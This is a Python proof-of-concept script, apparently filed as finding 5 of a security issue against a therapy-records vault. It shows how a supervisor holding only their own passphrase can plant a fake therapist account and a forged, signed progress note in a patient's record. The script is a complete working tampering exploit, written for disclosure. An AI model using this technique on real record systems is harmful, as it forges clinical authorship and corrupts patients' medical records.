#!/usr/bin/python3
# plant-author.py: finding 5 of issue #17, written from docs/FORMATS.md with
# only the attacker's own passphrase and the vault's files. A supervisor
# unwraps the database key with their own passphrase, adds a users row for
# a "therapist" whose keys they made, and a signed progress note by that
# therapist for the patient, signed with the planted key.
#
#   plant-author.py VAULT USER PASSPHRASE-FILE PATIENT-ID
#
# Prints the planted record's id.
import importlib.util
import os
import sys
import time

import nacl.bindings as sodium

here = os.path.dirname(os.path.abspath(__file__))
spec = importlib.util.spec_from_file_location(
    "confidant_read", os.path.join(here, "..", "reader", "confidant-read.py"))
reader = importlib.util.module_from_spec(spec)
spec.loader.exec_module(reader)


def main(argv):
    vault, user_name, passphrase_file, patient_id = argv[1:5]
    with open(os.path.join(vault, "keyring"), "rb") as f:
        keyring = reader.read_keyring(f.read())
    me = next(u for u in keyring["users"] if u["name"] == user_name)
    with open(passphrase_file, encoding="utf-8") as f:
        passphrase = f.read().split("\n")[0]
    secrets = reader.unwrap_with_passphrase(keyring, me, passphrase)
    db = reader.Database(os.path.join(vault, "vault.db"), secrets["db_key"])

    author = os.urandom(16).hex()
    record = os.urandom(16).hex()
    box_pk, _ = sodium.crypto_box_keypair()
    sign_pk, sign_sk = sodium.crypto_sign_keypair()
    now = int(time.time())
    key_version = db.rows("SELECT max(key_version) FROM patient_keys WHERE patient_id = '%s'"
                          % patient_id)[0][0]
    sealed = os.urandom(24 + 64 + 16)
    signature = sodium.crypto_sign(record.encode(), sign_sk)[:64]
    db.rows("INSERT INTO users (id, name, role, box_pk, sign_pk, created) VALUES "
            "('%s', 'Dr Planted', 'therapist', x'%s', x'%s', %d);\n"
            "INSERT INTO records (id, patient_id, parent_id, author_id, kind, class, status, "
            "occurred, created, updated, signed_at, key_version, revision, sealed, signature) "
            "VALUES ('%s', '%s', NULL, '%s', 'progress', 'medical', 'signed', %d, %d, %d, %d, "
            "%s, 1, x'%s', x'%s')"
            % (author, box_pk.hex(), sign_pk.hex(), now, record, patient_id, author, now, now,
               now, now, key_version, sealed.hex(), signature.hex()))
    print(record)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
